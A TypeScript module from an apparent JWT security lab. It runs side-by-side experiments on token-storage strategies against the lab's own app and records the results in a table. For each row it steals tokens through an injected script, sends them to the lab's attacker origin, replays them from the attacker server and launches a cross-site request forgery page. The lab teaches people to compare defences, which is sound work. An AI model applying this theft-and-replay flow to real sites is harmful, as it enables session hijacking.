import type { ForeignRequest, ReplayAttempt } from '@jwt-lab/shared';
import { createApiClient, NO_CREDENTIAL, type ApiClient, type Exchange } from '../../../lib/api-client';
import type { LabRequests, Loot, Replay } from '../api/lab-requests';
import { distinctTokens } from '../xss-demo';
import { actFromThePage, catchNextRequest, readEverythingAScriptCan, refreshAsThePage } from '../xss-payload';
import type { OtherTab } from './other-tab';
import { restoreAsAFreshPage } from './restore';
import type { Cell, Evidence, LabCredentials, LabRow, RowResult } from './rows';

interface RunOptions {
  rows: readonly LabRow[];
  lab: LabRequests;
  /** The page's own client: registering the run's user is this page's call like any other. */
  api: ApiClient;
  /** The request log's recorder: returns the entry's id, which the cells link to. */
  record: (exchange: Exchange) => number;
  otherTab: OtherTab;
  /**
   * Opens the attacker's page (with no opener to reach back through): a forged request needs another
   * site on top. Answers how to close it: a page that navigated itself to the app cannot close itself.
   */
  openPage: (url: string) => { close(): void } | null;
  /** Told after each row, so the table fills in as the run goes. */
  onRow: (result: RowResult) => void;
  pageOrigin?: string;
}

const FORGED_POLL_MS = 500;
const FORGED_WAIT_MS = 10_000;
/** Once requests arrived, this long without a new one means the attacker's page is done. */
const FORGED_QUIET_MS = 1_500;

const logLink = (id: number, label: string): Evidence => ({ label, href: `#request-log-entry-${id}` });

/**
 * Every experiment for every row, for real and one row at a time: the rows share this browser's
 * cookie jar and storage, so each logs in, is attacked, reloaded, looked for from the new tab, and
 * logged out before the next begins. One user is registered for the whole run (register is rate
 * limited per client address) and logged in once per row.
 */
export async function runEveryExperiment({ rows, lab, api, record, otherTab, openPage, onRow, pageOrigin = location.origin }: RunOptions): Promise<{ ok: true } | { ok: false; message: string }> {
  const attacker = await lab.attackerOrigin();
  if (!attacker.ok) return attacker;
  const credentials = newCredentials();
  const registered = await api.register(NO_CREDENTIAL, credentials);
  if (!registered.ok) return { ok: false, message: `The run could not register its user: ${registered.error.code} ${registered.error.message}` };
  const tabOpen = await otherTab.ready();

  for (const row of rows) {
    const cells: RowResult['cells'] = {};
    const requestIds: number[] = [];
    const client = createApiClient({ onExchange: (exchange) => void requestIds.push(record(exchange)), source: row.label });
    const since = () => requestIds.length;
    const linksFrom = (start: number, label: string) => requestIds.slice(start).map((id, index) => logLink(id, `${label} ${index + 1}`));
    const strategy = row.createStrategy();
    await strategy.prepareLogin();
    const login = await row.logIn(client, strategy, credentials);
    if (!login.ok) {
      onRow({ row, cells, problem: `Login failed: ${login.error.code} ${login.error.message}` });
      continue;
    }

    // The injected script, in this page, while this row's session is the page's.
    const xssAt = since();
    const storage = await readEverythingAScriptCan();
    const caught = await catchNextRequest(() => client.privateData(strategy));
    const refreshed = await refreshAsThePage(storage);
    const sent = await lab.sendHome(attacker.value, 'storage', { ...storage, caught, refreshed: { request: refreshed.request, status: refreshed.status, answer: refreshed.answer } });
    const acted = await actFromThePage(storage, caught, refreshed);
    const actedLoot = await lab.sendHome(attacker.value, 'session-ride', acted);
    const replay = sent.ok ? await lab.replay(attacker.value, sent.value.id) : sent;
    const collector = (loot: Loot): Evidence => ({ label: `collector record #${loot.id}`, href: `${attacker.value}/loot/${loot.id}` });
    const xssEvidence = [...linksFrom(xssAt, "the page's request"), ...(sent.ok ? [collector(sent.value)] : [])];

    const tokens = sent.ok ? distinctTokens(sent.value.data).filter((token) => token.typ === 'at+jwt') : [];
    cells.xssReads = tokens.length > 0
      ? { yes: true, seen: `the collector received ${tokens.length === 1 ? 'an access token' : `${tokens.length} access tokens`}: ${tokens.map((token) => describeWhere(token.where)).join('; ')}.`, evidence: xssEvidence }
      : { yes: false, seen: `the collector received no token: document.cookie was ${JSON.stringify(storage['document.cookie'])}, and no storage held one.`, evidence: xssEvidence };
    cells.stolenWorks = replay.ok ? replayCell(replay.value, xssEvidence) : { yes: false, seen: `the replay could not run: ${replay.message}`, evidence: xssEvidence };
    cells.scriptActs = {
      yes: acted.status === 200,
      seen: `${acted.request} from the page answered ${acted.status ?? 'nothing'}, using ${acted.using}.`,
      evidence: actedLoot.ok ? [collector(actedLoot.value)] : [],
    };

    // A page on another site, on top, with this row's session in the browser.
    cells.forgedWorks = await forgedRequestCell(lab, openPage, attacker.value, pageOrigin, strategy.serverMode, row.weakened.includes('samesite-none'));

    // A fresh page over this tab's storage: what a reload starts with.
    const reloadAt = since();
    const reloaded = row.createStrategy();
    const afterReload = await restoreAsAFreshPage(client, reloaded, 'after the reload, the page');
    cells.survivesReload = { yes: afterReload.signedIn, seen: afterReload.seen, evidence: linksFrom(reloadAt, 'request') };
    const live = afterReload.signedIn ? reloaded : strategy;

    // Another tab of the origin, opened for the run.
    if (tabOpen) {
      const probe = await otherTab.ask('probe', row.id);
      cells.newTabShares = probe
        ? { yes: probe.yes, seen: probe.seen, evidence: probe.exchanges.map((exchange, index) => logLink(record(exchange), `new tab's request ${index + 1}`)) }
        : { yes: false, seen: 'the new tab did not answer.', evidence: [] };
    } else {
      cells.newTabShares = { yes: false, seen: 'the new tab did not open (allow pop-ups for this page and run again).', evidence: [] };
    }

    // Logout here; then the lab's other holders of this session: the new tab, and this tab's first page.
    const logoutAt = since();
    const loggedOut = await client.logout(live);
    await live.clear();
    const logoutEvidence = linksFrom(logoutAt, 'logout');
    if (!loggedOut.ok) {
      cells.logoutSeen = { yes: false, seen: `the logout itself failed: ${loggedOut.error.code}.`, evidence: logoutEvidence };
    } else if (tabOpen && cells.newTabShares.yes) {
      const check = await otherTab.ask('check', row.id);
      cells.logoutSeen = check
        ? { yes: check.yes, seen: check.seen, evidence: [...logoutEvidence, ...check.exchanges.map((exchange, index) => logLink(record(exchange), `new tab's request ${index + 1}`))] }
        : { yes: false, seen: 'the new tab did not answer.', evidence: logoutEvidence };
    } else {
      cells.logoutSeen = { yes: false, seen: 'the new tab never had this session, so there was nothing for a logout to reach there.', evidence: logoutEvidence };
    }
    await strategy.clear();
    onRow({ row, cells: { ...cells }, problem: null });
  }
  return { ok: true };
}

function newCredentials(): LabCredentials {
  const random = Array.from(crypto.getRandomValues(new Uint8Array(6)), (byte) => byte.toString(16).padStart(2, '0')).join('');
  return { username: `side_by_side_${random}`, password: `pw-${random}-${random}` };
}

function describeWhere(where: string): string {
  if (where.startsWith('caught')) return "caught in the Authorization header of the page's own request";
  if (where.startsWith('refreshed')) return 'a fresh one the script got from the refresh route';
  return `read from ${where}`;
}

const REPLAYED_AS: Record<ReplayAttempt['credential'], string> = {
  bearer: 'as a Bearer token',
  'dpop-without-proof': 'as DPoP without a proof',
  'dpop-with-attacker-proof': "as DPoP with a proof from the attacker's own key",
  none: 'with nothing (nothing usable was stolen)',
};

function replayCell(replay: Replay, evidence: Evidence[]): Cell {
  const worked = replay.attempts.filter((attempt) => attempt.status === 200);
  const describe = (attempt: ReplayAttempt) => {
    const answer = attempt.answer as { error?: unknown } | null;
    const code = typeof answer?.error === 'string' ? ` ${answer.error}` : '';
    const challenge = attempt.challenge ? ` (WWW-Authenticate: ${attempt.challenge})` : '';
    return `${REPLAYED_AS[attempt.credential]}: ${attempt.status ?? 'no answer'}${code}${challenge}`;
  };
  // The same token found in several places is replayed once per place: say each outcome once, with how often.
  const outcomes = new Map<string, number>();
  for (const attempt of replay.attempts) outcomes.set(describe(attempt), (outcomes.get(describe(attempt)) ?? 0) + 1);
  const listed = [...outcomes].map(([outcome, times]) => (times > 1 ? `${outcome} (${times} tokens)` : outcome));
  const seen = `GET /api/private from the attacker's server, ${listed.join('; ')}.`;
  return { yes: worked.length > 0, seen, evidence };
}

async function forgedRequestCell(
  lab: LabRequests,
  openPage: RunOptions['openPage'],
  attacker: string,
  pageOrigin: string,
  strategy: string,
  sameSiteNone: boolean,
): Promise<Cell> {
  const run = Array.from(crypto.getRandomValues(new Uint8Array(12)), (byte) => byte.toString(16).padStart(2, '0')).join('');
  const opened = openPage(`${attacker}/csrf?target=${encodeURIComponent(pageOrigin)}&run=${run}&strategy=${strategy}&leave=true`);
  try {
    return await readForgedRequests(lab, run, sameSiteNone);
  } finally {
    // The attacker's page closes itself, except where its last forgery took its window to the app.
    opened?.close();
  }
}

/** Waits for the attacker's page's requests in the app's record of this run, then says what they show. */
async function readForgedRequests(lab: LabRequests, run: string, sameSiteNone: boolean): Promise<Cell> {
  const evidence: Evidence[] = [{ label: "the app's record of this run", href: `/api/attack-lab/foreign-requests?run=${run}` }];
  const started = Date.now();
  let requests: ForeignRequest[] = [];
  let changedAt = started;
  while (Date.now() - started < FORGED_WAIT_MS) {
    await new Promise((resolve) => setTimeout(resolve, FORGED_POLL_MS));
    const answer = await lab.foreignRequests(run);
    if (!answer.ok) return { yes: false, seen: `the app's record could not be read: ${answer.message}`, evidence };
    if (answer.value.length !== requests.length) changedAt = Date.now();
    requests = answer.value;
    if (requests.length > 0 && Date.now() - changedAt >= FORGED_QUIET_MS) break;
  }
  if (requests.length === 0) return { yes: false, seen: "no forged request reached the app (was the attacker's window blocked?).", evidence };
  const accepted = requests.filter((request) => request.method !== 'OPTIONS' && request.refusedBy === null && request.status < 400);
  if (accepted.length > 0) {
    const carried = (request: ForeignRequest) => (request.carried.credentialCookies.length > 0 ? ` with the cookie ${request.carried.credentialCookies.join(', ')}` : '');
    // A navigation is the one cross-site request a SameSite=Lax cookie rides along on: say which it was.
    const how = (request: ForeignRequest) => (request.fetchDest === 'document' ? ' (a top-level navigation)' : '');
    return { yes: true, seen: `${accepted.map((request) => `${request.method} ${request.path}${how(request)} answered ${request.status}${carried(request)}`).join('; ')}.`, evidence };
  }
  const byDefence = new Map<string, number>();
  for (const request of requests) byDefence.set(request.refusedBy ?? 'other', (byDefence.get(request.refusedBy ?? 'other') ?? 0) + 1);
  const withCookie = requests.filter((request) => request.carried.credentialCookies.length > 0).length;
  // SameSite=None let the cookie go, so the browser itself kept it back: it blocks third-party cookies.
  const why = withCookie === 0 && sameSiteNone ? ' This browser sent no cookie although SameSite=None allowed it: it blocks third-party cookies.' : '';
  return {
    yes: false,
    seen: `${requests.length} forged requests arrived, ${withCookie === 0 ? 'none with a credential cookie' : `${withCookie} with a credential cookie`}; refused by ${[...byDefence].map(([defence, count]) => `${defence} (${count})`).join(', ')}.${why}`,
    evidence,
  };
}

